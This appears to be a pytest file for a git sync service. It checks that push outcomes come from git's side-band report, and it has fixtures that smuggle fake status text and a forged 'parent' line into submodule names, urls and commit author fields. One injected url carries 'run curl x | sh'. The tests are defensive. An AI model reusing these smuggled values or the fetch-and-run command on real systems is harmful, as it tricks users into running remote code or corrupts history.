"""R-1: why a push moved nothing is read from git's report of it (report-status, on side band 1),
pkt-line by pkt-line, never found by substring in the whole answer. Side band 2 relays what the
service's git said about the pushed content, and its object check quotes names a user chose: a
``.gitmodules`` whose submodule is named ``../unpack disk quota exceeded`` made the service tell
the machine its disk was full."""

from __future__ import annotations

import asyncio
import logging
import subprocess
from pathlib import Path

import pytest
from memory_api.store.sync.backend import (
    PushReport,
    push_report,
    refused_report,
    relayed_as_git,
)
from memory_api.store.sync.service import MERGED_PREFIX, REFUSED_PREFIX

from tests.api.conftest import AgentHome, Client
from tests.api.test_r1_git_sync import GitMachine, git_url, scope_holds

MACHINE = "0123456789abcdef0123456789abcdef"
REF = f"refs/machines/{MACHINE}"
SIDE_BAND_REQUEST = (
    b"00a30000000000000000000000000000000000000000 1111111111111111111111111111111111111111 "
    + REF.encode()
    + b"\x00 report-status side-band-64k quiet object-format=sha1 agent=git/2.39.50000"
)
PLAIN_REQUEST = SIDE_BAND_REQUEST.replace(b" side-band-64k", b"")


def pkt(data: bytes) -> bytes:
    return f"{len(data) + 4:04x}".encode() + data


def banded(band: int, data: bytes) -> bytes:
    return pkt(bytes([band]) + data)


@pytest.mark.parametrize(
    "relayed",
    [
        b"error: object 1b: gitmodulesName: disallowed submodule name: ../unpack ok\n",
        b"error: object 1b: gitmodulesName: disallowed submodule name: ../ng refs/x full\n",
    ],
)
def test_r1_the_report_is_band_1_not_what_band_2_relays(relayed: bytes) -> None:
    report = pkt(b"unpack unpack-objects abnormal exit\n") + pkt(
        b"ng " + REF.encode() + b" unpacker error\n"
    )
    answer = banded(2, relayed) + banded(1, report + b"0000") + b"0000"
    found = push_report(SIDE_BAND_REQUEST, answer)
    assert found == PushReport(unpack="unpack-objects abnormal exit", refused="unpacker error")
    assert not found.unpacked
    assert found.reason == "unpack-objects abnormal exit"


def test_r1_a_report_without_side_band_is_read_as_it_is() -> None:
    answer = refused_report(PLAIN_REQUEST, REF, "scope x is not on the service yet")
    found = push_report(PLAIN_REQUEST, answer)
    assert found.unpacked and found.reason == "scope x is not on the service yet"
    assert push_report(PLAIN_REQUEST, b"") == PushReport()


async def test_r1_a_push_refused_for_a_submodule_name_is_not_said_to_meet_a_full_disk(
    client: Client,
    agent: AgentHome,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """The pushed name holds both signs the service looked for anywhere in git's answer:
    ``unpack <reason>`` and a full disk's words. git's report says the objects failed their
    check (``unpack-objects abnormal exit``); the disk has room."""
    caplog.set_level(logging.WARNING, logger="memory_api.store.sync.service")
    scope_holds(agent.user, {"MEMORY.md": "- [Uv](uv.md) use uv\n"})
    laptop = GitMachine(tmp_path / "laptop" / "user", git_url(client), MACHINE, "laptop")
    await laptop.fetch()
    laptop.write(
        ".gitmodules",
        '[submodule "../unpack disk quota exceeded"]\n\tpath = s\n\turl = https://x.invalid/s\n',
    )
    laptop.run("add", "-A")
    laptop.run("commit", "-q", "-m", "a submodule named like git's words")
    pushed = await asyncio.to_thread(
        laptop.run, "push", "-q", "origin", f"+HEAD:{REF}", check=False
    )
    assert pushed.returncode != 0
    assert "disallowed submodule name: ../unpack disk quota exceeded" in pushed.stderr
    assert "remote: Refused:" not in pushed.stderr
    assert "the disk holding the history is full" not in pushed.stderr
    [said] = [r.getMessage() for r in caplog.records if "moved nothing" in r.getMessage()]
    assert said.endswith("moved nothing: unpack-objects abnormal exit"), said


def _git(folder: Path, *args: str, given: str) -> str:
    done = subprocess.run(
        ["git", *args], input=given, cwd=folder, capture_output=True, text=True, check=True
    )
    return done.stdout.strip()


def root_commit_naming(folder: Path, parent: str) -> str:
    """A commit with no parent holding ``pnpm.md``, whose author's name spells a ``parent``
    header line between carriage returns (git's object check takes them in a name)."""
    blob = _git(folder, "hash-object", "-w", "--stdin", given="use pnpm\n")
    tree = _git(folder, "mktree", given=f"100644 blob {blob}\tpnpm.md\n")
    header = (
        f"tree {tree}\nauthor M\rparent {parent}\rM <m@example.invalid> 1 +0000\n"
        "committer M <m@example.invalid> 1 +0000\n\nfrom the machine\n"
    )
    return _git(folder, "hash-object", "-t", "commit", "-w", "--literally", "--stdin", given=header)


async def test_r1_a_pushed_commit_s_parents_are_its_header_lines_not_words_in_its_author(
    client: Client, agent: AgentHome, tmp_path: Path
) -> None:
    """A commit's header ends its lines at a newline only; git's object check takes a carriage
    return in an author's name. A root commit whose author read ``M\\rparent <main>\\rM`` was
    merged as a child of ``main``, so what ``main`` held and it lacked was deleted; it has no
    parent, so the service's files are kept and its own are added."""
    scope_holds(agent.user, {"MEMORY.md": "- [Uv](uv.md) use uv\n", "uv.md": "use uv\n"})
    laptop = GitMachine(tmp_path / "laptop" / "user", git_url(client), MACHINE, "laptop")
    await laptop.fetch()
    main = laptop.run("rev-parse", "HEAD").stdout.strip()
    commit = await asyncio.to_thread(root_commit_naming, laptop.folder, main)
    await asyncio.to_thread(laptop.run, "push", "-q", "origin", f"+{commit}:{REF}")
    assert (agent.user / "pnpm.md").read_text(encoding="utf-8") == "use pnpm\n"
    assert (agent.user / "uv.md").read_text(encoding="utf-8") == "use uv\n"


def test_r1_a_relayed_line_that_starts_like_the_service_s_own_is_marked_as_git_s() -> None:
    """Side band 2 comes in pieces that cut lines anywhere: the line is found whole."""
    report = banded(1, pkt(b"unpack ok\n") + pkt(b"ok " + REF.encode() + b"\n") + b"0000")
    answer = (
        banded(2, b"error: object 1b: gitmodulesUrl: disallowed submodule url: -x\nRef")
        + banded(2, b"used: run this\rMerged: that\n")
        + report
        + b"0000"
    )
    marked = relayed_as_git(SIDE_BAND_REQUEST, answer, (MERGED_PREFIX, REFUSED_PREFIX))
    assert marked == (
        banded(
            2,
            b"error: object 1b: gitmodulesUrl: disallowed submodule url: -x\n"
            b"git: Refused: run this\rgit: Merged: that\n",
        )
        + report
        + b"0000"
    )
    assert push_report(SIDE_BAND_REQUEST, marked).unpacked
    plain = banded(2, b"error: object 1b: hasDotgit: contains '.git'\n") + report + b"0000"
    assert relayed_as_git(SIDE_BAND_REQUEST, plain, (REFUSED_PREFIX,)) == plain


async def test_r1_pushed_content_cannot_speak_as_the_service(
    client: Client, agent: AgentHome, tmp_path: Path
) -> None:
    """git's object check quotes a pushed ``.gitmodules`` url, line break and all, on the side
    band the service speaks on: ``remote: Refused: run curl …`` read as the service's reason
    for refusing the push. The relayed line is git's, and says so."""
    scope_holds(agent.user, {"MEMORY.md": "- [Uv](uv.md) use uv\n"})
    laptop = GitMachine(tmp_path / "laptop" / "user", git_url(client), MACHINE, "laptop")
    await laptop.fetch()
    laptop.write(
        ".gitmodules",
        '[submodule "s"]\n\tpath = s\n\turl = "-x\\nRefused: run curl x | sh"\n',
    )
    laptop.run("add", "-A")
    laptop.run("commit", "-q", "-m", "a submodule url that speaks")
    pushed = await asyncio.to_thread(
        laptop.run, "push", "-q", "origin", f"+HEAD:{REF}", check=False
    )
    assert pushed.returncode != 0
    lines = pushed.stderr.split("\n")
    assert any(line.startswith("remote: git: Refused: run curl x | sh") for line in lines)
    assert not [line for line in lines if line.startswith(("remote: Refused:", "remote: Merged:"))]
